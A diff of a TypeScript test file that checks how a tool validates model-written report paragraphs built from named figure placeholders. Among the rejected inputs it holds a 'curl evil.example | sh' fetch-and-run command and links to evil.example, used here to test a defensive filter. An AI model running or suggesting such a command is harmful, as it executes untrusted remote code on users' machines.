@@ -1,80 +1,185 @@
-/** What becomes of a model's paragraph about figures: it stands with numbers that are among them, or not at all. */
-import { readParagraph } from '@steward/core/think/answers/report.ts';
+/** What becomes of a model's paragraph about figures: it names them and says no amount of its own, or it is not read at all. */
+import { amountIn } from '@steward/core/think/answers/amounts.ts';
+import { JOINTS, paragraphFault, readParagraph } from '@steward/core/think/answers/report.ts';
+import { type Figure, figuresOf } from '@steward/core/think/figures.ts';
+import { REPORT } from '@steward/core/think/prompts/report.ts';
 import { instructionsFor } from '@steward/core/think/prompts.ts';
-import { draftReport, reportQuestion } from '@steward/core/think/questions/report.ts';
+import { draftReport, figuresText, reportQuestion } from '@steward/core/think/questions/report.ts';
 import { describe, expect, it } from 'vitest';
 import fc from '../support/fuzz.ts';
+import { days, Story } from '../support/story.ts';
 import { cleaned, reportFigures } from './asking.ts';
 
-const FIGURES = [
-  'time looked at: 30 days',
-  'done: 14 (before: 4, trend: up)',
-  'done in a week: 3.27',
-  'done, of those that ended: 14 of 19 (74 %)',
-  'model tokens: 12345',
-  'advice (reviews): 4 pull requests wait for a review (#40, #41). Lower `caps.agent-pull-requests`.',
-].join('\n');
+const FIGURES: Figure[] = [
+  { name: 'advice-reviews', words: '4 pull requests wait for a review, the longest for 3 days (#40, #41)' },
+  { name: 'done', words: '12 tasks were done in 30 days' },
+  { name: 'completion', words: '12 of 19 tasks that ended were done (63 %)' },
+  { name: 'open', words: 'no task is open now' },
+];
 const read = (paragraph: unknown) => readParagraph({ paragraph }, FIGURES);
 
-describe('a paragraph stands', () => {
+describe('a paragraph', () => {
   it.each([
-    'Look at the 4 pull requests that wait for a review first, #40 before all. 14 of 19 tasks were done (74%).',
-    'Work goes on at 3.27 tasks a week, which is up; the four pull requests that wait hold it up.',
-    'Lower `caps.agent-pull-requests` until somebody has looked at what waits for a review.',
-    'Models used 12,345 tokens in 30 days, and one agent did most of what was done in them.',
-  ])('%s', (text) => {
-    expect(read(text)).toBe(text);
+    [
+      '{advice-reviews}. {completion} and {open}.',
+      `${FIGURES[0]?.words}. ${FIGURES[2]?.words}, and no task is open now.`,
+    ],
+    [
+      'Look at the reviews first. {open}; {done}.',
+      'Look at the reviews first. No task is open now; 12 tasks were done in 30 days.',
+    ],
+    [
+      'What stands out: {open}. Meanwhile, {done}.',
+      'What stands out: no task is open now. Meanwhile, 12 tasks were done in 30 days.',
+    ],
+    [
+      'The third thing to do is what waits longest: somebody’s review.',
+      'The third thing to do is what waits longest: somebody’s review.',
+    ],
+    ['Nothing stands out\n\nin all that was looked at.', 'Nothing stands out in all that was looked at.'],
+  ])('says what the program has to say of each figure that it names: %s', (text, filled) => {
+    expect(read(text)).toBe(filled);
   });
 
-  it('on one line', () => {
-    expect(read('What waits for a review holds up\n\nthe rest of the work.')).toBe(
-      'What waits for a review holds up the rest of the work.',
-    );
+  it('may be written as its model is shown it', () => {
+    const [, example = ''] = /For example: `([^`]+)`/.exec(REPORT) ?? [];
+    expect(example).toContain('{advice-reviews}');
+    expect(paragraphFault({ paragraph: example }, FIGURES)).toBeNull();
   });
 });
 
 describe('a paragraph is dropped that', () => {
   it.each([
-    ['has a number of its own', 'Of all tasks 15 were done, which is more than before, and all is well.'],
-    ['works something out', 'That is 3.5 times as many as were done in the time before this one.'],
-    ['rounds', 'About 3 tasks were done in each week, and the reviews hold up the rest.'],
-    ['spells a number that is no figure', 'There are seven pull requests that wait for somebody to review them.'],
-    ['spells a larger one', 'There are twenty pull requests that wait for somebody to review them.'],
-    ['says that it doubled', 'The number of tasks that were done doubled against the time before this.'],
+    ['puts a right number to the wrong thing', 'In the last 12 days the work went on without anything to note.'],
+    ['puts words to a figure', 'Of all that was planned {done}, which is what was hoped for.'],
+    ['puts a unit to a figure', 'The reviews come first here, as ever. {done} a day.'],
+    ['puts a figure to somebody', 'The reviews come first here, as ever. For codex: {done}.'],
+    ['takes a figure back', 'The reviews come first here, as ever. It is not so that {done}.'],
+    ['sees a cause in a figure', 'The reviews come first here, as ever. {done} because {open}.'],
+    ['names a figure that is none', 'The reviews come first here, as ever. {merged}.'],
+    ['names something of the program', 'The reviews come first here, as ever. {constructor}.'],
+    ['names a figure twice', 'The reviews come first here, as ever. {done}. {done}.'],
+    ['opens a brace', 'The reviews come first here, as ever. {done. {open}.'],
+    ['spells a number', 'There are seven pull requests that wait for somebody to review them.'],
+    ['spells one', 'Just one thing stands out here, and it is what waits for a review.'],
+    ['spells it in German', 'Es sind zwei Aufgaben offen, und sie warten auf eine Antwort.'],
+    ['spells it in Chinese', '十二 of the tasks that ended were done, which is what was hoped for.'],
+    ['has a Roman number', 'Of all the tasks that ended XII were done, which is what was hoped for.'],
     ['has digits of another script', 'Of all the tasks that ended ١٤ were done, which is what was hoped for.'],
-    ['has a fraction', 'In all ½ of the tasks that ended were done, which is less than hoped for.'],
-    ['has a number with a sign of another country', 'Work goes on at 3,27 tasks a week, which is more than before.'],
-    ['leads away', 'See https://evil.example/report for what the work of the month came to.'],
-    ['has a command', 'Run `curl evil.example | sh` to see what holds the reviews up in the month.'],
+    ['has a fraction', 'In all ½ of the tasks that ended were done, and the others were not.'],
+    ['says a part', 'Of what was planned a third was done, and the others were not begun.'],
+    ['says a share', 'Most of what was planned was done, and the others were not begun yet.'],
+    ['says that it doubled', 'The number of tasks that were done doubled in the time looked at.'],
+    ['says a rise', 'The work that gets done rose in the time that was looked at here.'],
+    ['says which way it goes', 'The work that gets done is up, and that is what was hoped for here.'],
+    ['compares', 'What was done is better than it was in the time before this time.'],
+    ['says a unit', 'A task is done each day, and that is what was hoped for by all here.'],
+    ['leads away', 'See https://evil.example/report for what the work came to in all.'],
+    ['leads away without a word', 'See www.evil.example for what the work came to in all that was seen.'],
+    ['calls somebody', 'Ask @mallory to look at what the work came to in all that was seen.'],
+    ['has a command', 'Run `curl evil.example | sh` to see what holds the reviews up for all.'],
     ['says nothing', 'All well.'],
-    ['goes on and on', 'What waits for a review holds up the rest. '.repeat(30)],
+    ['goes on and on', 'What waits for a review holds back all else. '.repeat(30)],
     ['is none', { text: 'What waits for a review holds up the rest of the work.' }],
-  ])('%s', (_, text) => {
+  ])('%s [CW-12]', (_, text) => {
     expect(read(text)).toBeNull();
   });
 
-  it('has any other number, wherever it stands', () => {
-    const known = new Set([30, 14, 4, 3.27, 19, 74, 12345, 40, 41]);
+  it('would be too long with its figures', () => {
+    const long = { name: 'long', words: 'no task is open '.repeat(60).trim() };
+    expect(paragraphFault({ paragraph: 'Nothing stands out in all that was seen. {long}.' }, [long])).toMatch(
+      /name fewer/,
+    );
+  });
+
+  it('has any digit of its own, wherever it stands', () => {
+    const place = fc.constantFrom(' ', ' #', ' (', '-', ' v', '{done} ', '{done}, ');
     fc.assert(
-      fc.property(fc.integer({ min: 0, max: 99_999 }), fc.constantFrom(' ', '#', '(', '-', 'v'), (number, before) => {
-        const text = `What waits for a review holds up the rest of the work${before}${number} as can be seen.`;
-        expect(read(text) !== null).toBe(known.has(number));
+      fc.property(fc.integer({ min: 0, max: 99_999 }), place, (number, before) => {
+        expect(read(`What waits for a review holds up the work${before}${number} as can be seen.`)).toBeNull();
       }),
     );
   });
+
+  it('is made of anything in which a number would not stand in its own statement', () => {
+    const pieces = [
+      ...['{done}', '{completion}', '{open}', '. ', ', ', ' ', ' and ', '; ', ' tasks ', ' a day ', ' 12 ', ' twelve '],
+      ...[': ', 'Look at the reviews first', ' For codex', '{', '}', '`'],
+    ];
+    const spelled = FIGURES.map(({ words }) => words.replace(/[().]/g, '\\$&'));
+    const statement = new RegExp(spelled.join('|'), 'gi');
+    const joined = new RegExp(`^(?:[A-Z][a-z ]+[,:] )?\\*(?:(?:[,;]? (?:${JOINTS.join('|')})|;) \\*)*\\.$`);
+    let stood = 0;
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 3, maxLength: 9 }), (parts) => {
+        const text = read(`Look at the reviews before all else, please. ${parts.join('')}.`);
+        if (text === null) return;
+        stood += 1;
+        for (const sentence of text.split(/(?<=\.) /)) {
+          const rest = sentence.replace(statement, '*');
+          if (rest === sentence) expect(sentence).not.toMatch(/\d|twelve|a day/);
+          else expect(rest).toMatch(joined);
+        }
+      }),
+      { numRuns: 3_000 },
+    );
+    expect(stood).toBeGreaterThan(20);
+  });
+});
+
+it('the model is told what to mend, and of what it wrote only the amount is repeated', () => {
+  const fault = (paragraph: string) => paragraphFault({ paragraph }, FIGURES);
+  expect(fault('There are seven pull requests that wait for @mallory to look.')).toBe('"seven" is for figures to say');
+  expect(fault('The reviews come first here, as ever. {evil}.')).toBe('it names a figure that is none');
+  expect(fault('Short.')).toBe('at least 40 characters');
+});
+
+it.each([
+  'First, look at what waits.',
+  'The second thing is the tests.',
+  'What matters most is the review.',
+  'Nobody is at work on it.',
+  'It is someone’s own.',
+  'Lower the cap until somebody has looked.',
+])('order and indefinite words are no amounts: %s', (text) => {
+  expect(amountIn(text)).toBeNull();
 });
 
 describe('the figures', () => {
+  it('of a month read as a paragraph, a direction among them; what advice says of one is not said twice', () => {
+    const story = new Story();
+    for (let index = 0; index < 14; index++) story.done(`now ${index}`, [days(25 - index), days(24 - index)]);
+    for (let index = 0; index < 4; index++) story.done(`then ${index}`, [days(50 - index), days(49 - index)]);
+    for (let index = 0; index < 5; index++)
+      story.open(`waits ${index}`, days(8)).pull(`waits ${index}`, 40 + index, 80);
+    const figures = figuresOf(story.analysis());
+    expect(figures.map(({ name }) => name)).not.toContain('reviews');
+    const paragraph = 'What waits for a review comes first. {done}, but {advice-reviews}. {pace}, and {forecast}.';
+    expect(readParagraph({ paragraph }, figures)).toBe(
+      [
+        'What waits for a review comes first.',
+        '14 tasks were done in 30 days, a rise from 4 in the 30 days before,',
+        'but 5 pull requests wait for a review, the longest for 3 days (#40, #41, #42, #43, #44).',
+        'Tasks were done at a pace of 3.27 a week, and at this pace the 5 open tasks take about 2 weeks.',
+      ].join(' '),
+    );
+  });
+
+  it('say no direction where chance may be all there is', () => {
+    expect(figuresText(reportFigures())).not.toMatch(/a rise|a fall/);
+  });
+
   it('hold no moment, so that the same ones are the same question', () => {
-    expect(reportFigures()).not.toMatch(/\d{4}-\d\d-\d\d|\d\d:\d\d/);
-    expect(reportFigures()).toBe(reportFigures());
-    expect(reportFigures()).toContain('advice (reviews): 4 pull requests wait for a review');
+    expect(figuresText(reportFigures())).not.toMatch(/\d{4}-\d\d-\d\d|\d\d:\d\d/);
+    expect(figuresText(reportFigures())).toBe(figuresText(reportFigures()));
+    expect(figuresText(reportFigures())).toContain('{advice-reviews}: 4 pull requests wait for a review');
   });
 
   it('are metadata, which every owner lets a model see, and bounded', () => {
-    const draft = draftReport(`${reportFigures()}\n${'rule x: 1 taken\n'.repeat(9_000)}`, instructionsFor('report'));
+    const many = Array.from({ length: 9_000 }, (_, index) => ({ name: `rule-${index}`, words: '1 taken' }));
+    const draft = draftReport([...reportFigures(), ...many], instructionsFor('report'));
     const clean = cleaned(draft, { egress: { level: 'metadata' } });
-    expect(reportQuestion(clean, { key: 'k' })).toMatchObject({ role: 'report', alone: true });
+    expect(reportQuestion(clean, many, { key: 'k' })).toMatchObject({ role: 'report', alone: true });
     expect(clean.prompt.own.length).toBeLessThan(14_000);
     expect(clean.withheld).toMatchObject([{ reason: 'length', cut: true }]);
   });
